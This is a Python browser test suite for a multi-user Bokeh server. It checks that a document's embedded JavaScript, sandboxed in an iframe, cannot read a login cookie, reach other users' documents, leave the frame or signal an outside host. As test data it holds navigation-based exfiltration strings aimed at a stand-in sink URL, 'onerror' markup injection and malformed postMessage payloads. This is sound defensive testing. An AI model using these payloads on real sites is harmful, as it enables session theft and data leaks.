"""A hostile document of somebody else: what its JavaScript gets at, which is itself."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from bokeh.document import Document
from bokeh.models import Button, CustomJS, Div, Slider
from bokeh.plotting import figure
from playwright.sync_api import BrowserContext, Frame, Page, expect

from support.browser import Api, frame_of, wait_live, wait_until
from support.server import RunningServer, running_server
from support.sink import Sink, sink

pytestmark = pytest.mark.browser

Visit = Callable[[str], Page]

#: what a document may try; `window.found` is what each attempt came to.
ATTEMPTS = (Path(__file__).parent / "hostile.js").read_text("utf-8")
#: how a frame may try to leave; each ends it, so each is tried in a page of its own.
WAYS_OUT = {
    "assign": "location.href = out",
    "replace": "location.replace(out)",
    "refresh": """document.head.append(Object.assign(document.createElement("meta"),
        {httpEquiv: "refresh", content: `0;url=${out}`}))""",
    "link": """const link = document.createElement("a"); link.href = out
        document.body.append(link); link.click()""",
    "download": """const link = document.createElement("a"); link.href = out; link.download = "x"
        document.body.append(link); link.click()""",
    "download as the viewer": """const link = document.createElement("a"); link.download = "x"
        link.href = `${server}/bokeh/userinfo/`; document.body.append(link); link.click()""",
    "form": """const form = document.createElement("form"); form.action = out
        document.body.append(form); form.submit()""",
    "navigation": "navigation.navigate(out)",
    "data": "location.href = `data:text/html,<img src='${out}'>`",
    "blob": """location.href = URL.createObjectURL(
        new Blob([`<img src='${out}'>`], {type: "text/html"}))""",
    "back": "history.back()",
    "further back": "history.go(-1)",
    "another document": "location.href = `${server}/bokeh/doc/${other}/show`",
    "the list": "location.href = `${server}/`",
}


@pytest.fixture(scope="module", params=["", "127.0.0.1"], ids=["one-host", "two-hosts"])
def people_server(request: pytest.FixtureRequest) -> Iterator[RunningServer]:
    """A server that several people share, whose frames are at its own name or at another."""
    more = ("--usercontent-host", request.param) if request.param else ()
    with running_server("--multi-user", *more) as server:
        yield server


@pytest.fixture(scope="module")
def people_api(people_server: RunningServer) -> Iterator[Api]:
    """Scripts' way to it."""
    found = Api(people_server.url)
    found.enter()
    yield found
    found.close()


@pytest.fixture
def outside() -> Iterator[Sink]:
    """Another host."""
    with sink() as made:
        yield made


@pytest.fixture(autouse=True)
def planted(logged_in: BrowserContext, people_api: Api) -> None:
    """The browser is logged in, and has a cookie that scripts of the server's origin can read."""
    logged_in.add_cookies([{"name": "login", "value": "secret", "url": people_api.url}])


@pytest.fixture
def other(people_api: Api, title: str) -> str:
    """A document that is none of the author's business."""
    document = Document()
    document.add_root(Slider(name="secret", start=0, end=10, value=1))
    return people_api.make(f"secret {title}", document)


def hostile(api: Api, title: str, code: str, other: str, outside: Sink) -> str:
    """A document with a button that runs some code."""
    button = Button(name="attack", label="attack")
    names = {"server": api.url, "other": other, "sink": outside.url}
    names |= {
        "own_script": f"{api.url}/bokeh/static/0/gallery.js",
        "out": f"{outside.url}/out?secret",
    }
    prelude = "".join(f"const {name} = {value!r};" for name, value in names.items())
    prelude += "const docid = location.pathname.split('/').at(-2);"
    button.js_on_click(CustomJS(code=f"(async () => {{{prelude}\n{code}\n}})()"))
    document = Document()
    document.add_root(button)
    return api.make(title, document)


def attack(page: Page) -> Frame:
    """Press the button."""
    wait_live(page)
    frame = frame_of(page)
    frame.get_by_role("button", name="attack").click()
    return frame


def test_what_a_hostile_document_gets_at(
    logged_in: BrowserContext, people_api: Api, title: str, other: str, outside: Sink
) -> None:
    """No cookie, storage, other document, page, API or host; and the plot around it lives on."""
    docid = hostile(people_api, title, ATTEMPTS, other, outside)
    page = logged_in.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.goto(f"{people_api.url}/bokeh/doc/{docid}/show")
    frame = attack(page)
    wait_until(lambda: frame.evaluate("window.found != null"), seconds=60)
    found: dict[str, str] = frame.evaluate("found")
    assert len(found) > 105
    assert {name: value for name, value in found.items() if value.startswith("got")} == {}
    assert found["cookie"].startswith("refused")
    assert found["worker"] == "refused"
    page.wait_for_timeout(500)
    assert set(outside.heard) <= {""}  # Chromium may connect before it looks at the policy
    assert len(logged_in.pages) == 1
    assert page.url == f"{people_api.url}/bokeh/doc/{docid}/show"
    assert page.evaluate("document.cookie") == "login=secret"
    assert dialogs == []
    titles = [each["title"] for each in people_api.call("GET", "/bokeh/userinfo/")["docs"]]
    assert f"secret {title}" in titles
    assert "made by a hostile document" not in titles
    people_api.change(docid, {"kind": "TitleChanged", "title": "it lives"})
    wait_until(page.title, "it lives")


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_frame_cannot_leave(
    logged_in: BrowserContext, people_api: Api, title: str, other: str, outside: Sink, way: str
) -> None:
    """Another host is told nothing, nothing else stands in its place, and the shell stays.

    Chromium connects before it looks at the policy, and then says nothing.
    """
    docid = hostile(people_api, title, WAYS_OUT[way], other, outside)
    page = logged_in.new_page()
    addresses: list[str] = []
    page.on("request", lambda request: addresses.append(request.url))
    page.goto(f"{people_api.url}/bokeh/doc/{docid}/show")
    attack(page)
    page.wait_for_timeout(1200)
    assert set(outside.heard) <= {""}
    kept_from = (f"/{other}/show", "/userinfo/", f":{people_api.url.rpartition(':')[2]}/ ")
    assert not any(part in f"{each} " for part in kept_from for each in addresses)
    assert page.url == f"{people_api.url}/bokeh/doc/{docid}/show"
    assert page.get_by_role("button", name="History").is_visible()


def test_a_frame_that_left_is_told_of(
    logged_in: BrowserContext, people_api: Api, title: str, other: str, outside: Sink
) -> None:
    """The page says that it does not answer, instead of calling it live."""
    docid = hostile(people_api, title, WAYS_OUT["assign"], other, outside)
    page = logged_in.new_page()
    page.goto(f"{people_api.url}/bokeh/doc/{docid}/show")
    attack(page)
    page.wait_for_selector("html[data-connection=failed]", timeout=20_000)
    assert "does not answer" in page.locator("#notice").inner_text()


def test_a_frame_that_loads_itself_again(
    logged_in: BrowserContext, people_api: Api, title: str, other: str, outside: Sink
) -> None:
    """That it may, and gets a ticket of its own."""
    docid = hostile(people_api, title, "location.reload()", other, outside)
    page = logged_in.new_page()
    page.goto(f"{people_api.url}/bokeh/doc/{docid}/show")
    wait_live(page)
    frame_of(page).evaluate("document.body.dataset.first = ''")
    attack(page)
    frame = page.frame_locator("#frame")
    expect(frame.locator("body:not([data-first])")).to_have_count(1)
    expect(frame.get_by_role("button", name="attack")).to_be_visible()
    assert frame_of(page).evaluate("bokeh_server_session.state") == "live"


HOSTILE_WORDS = """
const say = (message) => parent.postMessage(message, "*")
const markup = "<img src=x onerror='window.hit = 1'>"
for (const odd of [null, 1, "hello", [], {}, {bokeh_server: 1}, {bokeh_server: "__proto__"},
    {bokeh_server: "constructor"}, {bokeh_server: "toString"}, {bokeh_server: "navigate", url: "/"},
    {bokeh_server: "state"},
    {bokeh_server: "state", state: "owned", detail: "", has_document: true},
    {bokeh_server: "state", state: "toString", detail: "", has_document: true},
    {bokeh_server: "state", state: "live", detail: {}, has_document: true},
    {bokeh_server: "report", what: "<b>", detail: ""}, {bokeh_server: "size", height: 1e9},
    {bokeh_server: "size", height: -1}, {bokeh_server: "size", height: "100%"},
    {bokeh_server: "title", title: {toString: null}}, {bokeh_server: "ticket", id: "1"},
    {bokeh_server: "ticket", id: -1}, {bokeh_server: "ticket", id: 1.5}]) {
  say(odd)
}
for (let i = 0; i < 500; i++) {
  say({bokeh_server: "ticket", id: i})
}
say({bokeh_server: "report", what: "failed", detail: markup + "x".repeat(100000)})
say({bokeh_server: "title", title: markup + "x".repeat(100000)})
"""


def test_what_a_frame_says_is_text_and_no_more(
    logged_in: BrowserContext,
    people_api: Api,
    title: str,
    other: str,
    outside: Sink,
    problems: list[str],
) -> None:
    """Unknown words are dropped, texts are cut and never markup, tickets come slowly."""
    docid = hostile(people_api, title, HOSTILE_WORDS, other, outside)
    page = logged_in.new_page()
    page.on("pageerror", lambda error: problems.append(str(error)))
    asked: list[str] = []
    page.on("request", lambda each: asked.append(each.url) if "/ticket" in each.url else None)
    page.goto(f"{people_api.url}/bokeh/doc/{docid}/show")
    attack(page)
    wait_until(lambda: page.locator("#title").inner_text()[:4], "<img")
    assert len(page.locator("#title").inner_text()) == 300
    assert page.locator("#title img, #notice img").count() == 0
    assert len(page.locator("#notice").inner_text()) < 400
    assert page.evaluate("window.hit") is None
    assert page.locator("#frame").get_attribute("style") is None
    page.wait_for_timeout(1500)
    assert len(asked) <= 8
    assert page.locator("html").get_attribute("data-connection") == "failed"


def test_a_frame_alone_is_in_a_sandbox_too(
    logged_in: BrowserContext, people_api: Api, docid: str, outside: Sink
) -> None:
    """Without a shell it has no origin; opened as a page it is none: the shell opens."""
    page = logged_in.new_page()
    page.goto(f"{people_api.url}/bokeh/doc/{docid}/frame?modelid=line")
    assert page.url == f"{people_api.url}/bokeh/doc/{docid}/line"
    wait_live(page)
    address = page.locator("#frame").evaluate("(it) => it.src")
    page.goto(f"{people_api.url}/bokeh/ping")
    page.set_content(f'<iframe id="frame" src="{address}&public=true"></iframe>')
    frame = frame_of(page)
    frame.wait_for_selector("#stage")
    assert frame.evaluate("window.origin") == "null"
    assert "refused" in frame.evaluate(
        "(() => { try { return document.cookie } catch { return 'refused' } })()"
    )


@pytest.fixture
def docid(people_api: Api, title: str) -> str:
    """A document whose HTML has a handler in it, and whose plot has a callback."""
    plot = figure(name="line", width=300, height=200)
    plot.line([1, 2, 3], [1, 2, 3])
    slider = Slider(name="amount", start=0, end=10, value=1, step=1)
    slider.js_on_change("value", CustomJS(code="window.ran = cb_obj.value"))
    document = Document()
    for root in (plot, slider, Div(text="<b>text</b><img src=x onerror='window.hit = true'>")):
        document.add_root(root)
    return people_api.make(title, document)


@pytest.mark.parametrize("strict", [False, True])
def test_a_strict_page_runs_nothing_of_the_document(
    visit: Visit, people_api: Api, docid: str, strict: bool, problems: list[str]
) -> None:
    """Callbacks run unless it is strict; handlers in HTML never do; plots are drawn anyway."""
    page = visit(f"{people_api.url}/bokeh/doc/{docid}/show{'?strict=true' if strict else ''}")
    wait_live(page)
    frame = frame_of(page)
    assert frame.locator(".bk-Canvas").count() == 1
    frame.locator(".noUi-handle").focus()
    page.keyboard.press("ArrowRight")
    value = "Bokeh.documents[0].get_model_by_name('amount').value"
    wait_until(lambda: frame.evaluate(value), 2)
    page.wait_for_timeout(300)
    assert frame.evaluate("window.ran") == (None if strict else 2)
    assert frame.evaluate("window.hit") is None
    assert frame.locator("b").inner_text() == "text"
    _forget(problems, "Content Security Policy", "unsafe-eval")


def _forget(problems: list[str], *parts: str) -> None:
    problems[:] = [each for each in problems if not any(part in each for part in parts)]


def test_documents_of_two_pages_are_strangers(
    logged_in: BrowserContext, people_api: Api, docid: str, other: str
) -> None:
    """Two frames have no origin in common, though one server sent them."""
    pages: list[Any] = [logged_in.new_page() for _ in range(2)]
    for page, shown in zip(pages, (docid, other), strict=True):
        page.goto(f"{people_api.url}/bokeh/doc/{shown}/show")
        wait_live(page)
    listens = """() => {
        window.heard = []
        new BroadcastChannel("x").onmessage = ({data}) => heard.push(data)
    }"""
    frame_of(pages[0]).evaluate(listens)
    frame_of(pages[1]).evaluate("new BroadcastChannel('x').postMessage('secret')")
    pages[0].wait_for_timeout(300)
    assert frame_of(pages[0]).evaluate("heard") == []
